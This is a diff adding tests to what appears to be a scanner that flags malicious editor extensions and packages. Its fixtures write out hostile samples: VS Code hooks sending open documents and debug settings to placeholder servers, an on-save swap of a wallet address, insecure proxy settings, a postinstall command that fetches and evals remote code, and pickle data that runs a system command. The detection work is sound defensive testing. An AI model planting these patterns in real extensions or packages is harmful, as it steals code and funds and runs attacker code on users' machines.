@@ -4,6 +4,7 @@ import { findingsOf } from '#test/support/scan-package.js';
 import { dangerIn } from './commands.js';
 import { rule as dataLeak } from './data-leak.rule.js';
 import { rule as remoteCode } from './remote-code.rule.js';
+import { rule as swapped } from './swapped-address.rule.js';
 import { rule as weakened } from './weakened-editor.rule.js';
 
 const VSCODE = 'const vscode = require("vscode"); exports.activate = async (context) => { ';
@@ -37,4 +38,31 @@ test('a script from a server in what stands in an editor, and terminals with a p
 test('what Git could bring back', () => {
   assert.equal(dangerIn('git clean -fdx && git reflog expire --expire=now --all && git gc --prune=now')?.severity, 'high');
   for (const command of ['git reflog', 'git clean -fdx', 'git gc --prune=2.weeks.ago']) assert.equal(dangerIn(command), null, command);
+});
+
+test('what is in an editor or a debugger goes to a server, and an account comes in its place', () => {
+  assert.equal(worst(dataLeak, 'vscode.window.onDidChangeActiveTextEditor((e) => fetch("https://sync.example/t", { method: "POST", body: e.document.getText() }));'), 'high');
+  assert.equal(worst(dataLeak, 'vscode.debug.onDidStartDebugSession((s) => fetch("https://dbg.example/s", { method: "POST", body: JSON.stringify(s.configuration) }));'), 'high');
+  for (const body of ['vscode.debug.onDidStartDebugSession((s) => fetch("https://dbg.example/s", { method: "POST", body: s.type }));', 'vscode.window.onDidChangeActiveTextEditor((e) => fetch("https://sync.example/t", { method: "POST", body: e.document.languageId }));']) assert.equal(worst(dataLeak, body), 'nothing', body);
+  const save = (put: string) => `vscode.workspace.onDidSaveTextDocument(async (d) => { const m = /(TREASURY)=(0x[0-9a-fA-F]{40})/.exec(d.getText()); const e = new vscode.WorkspaceEdit(); e.replace(d.uri, range, ${put}); await vscode.workspace.applyEdit(e); });`;
+  assert.equal(worst(swapped, save('m[1] + "=0x71C7656EC7ab88b098defB751B7401B5f6d8976F"')), 'high');
+  assert.equal(worst(swapped, save('m[1] + "=" + m[2].toLowerCase()')), 'nothing');
+});
+
+test('settings of an editor in the rows of a table, and scripts of npm that are written into manifests', () => {
+  const rows = (row: string) => `for (const [section, key, value] of [["editor", "wordWrap", "on"], ${row}]) await vscode.workspace.getConfiguration(section).update(key, value, true);`;
+  for (const row of ['["http", "proxy", "http://192.0.2.61:3128"]', '["http", "proxyStrictSSL", false]']) assert.equal(worst(weakened, rows(row)), 'high', row);
+  assert.equal(worst(weakened, rows('["http", "proxySupport", "override"]')), 'nothing');
+  const hook = (command: string) => `pkg.scripts.postinstall = ${command}; await write(JSON.stringify(pkg));`;
+  assert.equal(worst(remoteCode, hook('"node -e \\"fetch(\'https://p.example/p.js\').then(r=>r.text()).then(eval)\\""')), 'high');
+  for (const command of ['"husky install"', '"node scripts/build.js"', 'answer.command']) assert.equal(worst(remoteCode, hook(command)), 'nothing', command);
+});
+
+test('data that runs something when Python reads it', () => {
+  const read = 'import pickle\nwith open("weights.p0", "rb") as f:\n    model = pickle.load(f)\n';
+  const said = (data: string, code = read) => findingsOf(remoteCode, { 'model.py': code, 'weights.p0': Buffer.from(data, 'latin1') }).map(({ severity, file }) => `${severity} ${file}`);
+  assert.deepEqual(said("cposix\nsystem\n(S'id'\ntR."), ['high weights.p0']);
+  assert.deepEqual(said(String.fromCharCode(0x8c, 5) + 'posix' + String.fromCharCode(0x94, 0x8c, 6) + 'system'), ['high weights.p0']);
+  assert.deepEqual(said('cnumpy\ndtype\n(S\'f8\'\ntR.'), []);
+  assert.deepEqual(said("cposix\nsystem\n(S'id'\ntR.", 'print(open("weights.p0").read())'), []);
 });
